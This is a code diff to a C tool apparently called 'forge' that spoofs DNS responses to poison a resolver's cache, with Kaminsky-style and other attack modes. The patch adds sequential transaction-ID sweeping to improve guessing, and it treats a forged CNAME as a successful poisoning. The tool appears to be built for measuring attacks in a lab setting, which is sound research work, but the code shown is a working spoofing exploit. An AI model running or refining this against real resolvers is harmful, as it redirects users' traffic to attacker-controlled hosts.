@@ -64,6 +64,7 @@ struct opts {
 	struct in_addr evil_a, evil_ns;
 	int birthday;
 	bool stop_on_accept;
+	bool id_sweep; /* IDs in order (per trigger) instead of at random */
 };
 
 /* ---------- small helpers ---------- */
@@ -99,7 +100,8 @@ static void usage(void)
 		"usage: forge --resolver ADDR[@PORT] --server ADDR --zone ZONE --pid PID\n"
 		"             [--mode kaminsky|othername|tudoor] [--packets N] [--seconds S]\n"
 		"             [--scan-ms MS (0 = one snapshot)] [--max-wait-ms MS]\n"
-		"             [--evil-a ADDR] [--evil-ns ADDR] [--birthday N] [--stop-on-accept]\n");
+		"             [--evil-a ADDR] [--evil-ns ADDR] [--birthday N] [--stop-on-accept]\n"
+		"             [--id-sweep]\n");
 	exit(2);
 }
 
@@ -454,7 +456,8 @@ struct outcome {
 	uint64_t genuine, forged, servfail, other, timeout;
 };
 
-/* Does the answer carry an A record with one of the attacker's addresses?
+/* Does the answer carry an A record with one of the attacker's addresses,
+ * or a CNAME in the answer section (the genuine server has none)?
  * Sets *genuine when the answer section has a 192.0.2.0/24 A record. */
 static bool carries(const uint8_t *p, size_t n, const struct opts *o, bool *genuine)
 {
@@ -490,6 +493,9 @@ static bool carries(const uint8_t *p, size_t n, const struct opts *o, bool *genu
 		pos += 10;
 		if (pos + rdlen > n)
 			return evil;
+		/* the genuine server never answers with a CNAME: one is forged */
+		if (type == T_CNAME && i < qd + an)
+			evil = true;
 		if (type == T_A && rdlen == 4) {
 			if (!memcmp(p + pos, &o->evil_a.s_addr, 4) || !memcmp(p + pos, &o->evil_ns.s_addr, 4))
 				evil = true;
@@ -566,6 +572,10 @@ int main(int argc, char **argv)
 		const char *v = i + 1 < argc ? argv[i + 1] : NULL;
 		if (!strcmp(a, "--stop-on-accept")) {
 			o.stop_on_accept = true;
+			continue;
+		}
+		if (!strcmp(a, "--id-sweep")) {
+			o.id_sweep = true;
 			continue;
 		}
 		if (!v)
@@ -753,7 +763,8 @@ int main(int argc, char **argv)
 					memcpy(p + 24, &ulen, 2); /* checksum 0: none */
 					memcpy(p + 28, b->d, b->n);
 					if (b->n >= 2) {
-						uint16_t id = (uint16_t)rnd64();
+						uint16_t id = o.id_sweep ? htons((uint16_t)(k / (uint64_t)nt))
+									 : (uint16_t)rnd64();
 						memcpy(p + 28, &id, 2);
 					}
 					iov[i].iov_len = 28 + b->n;
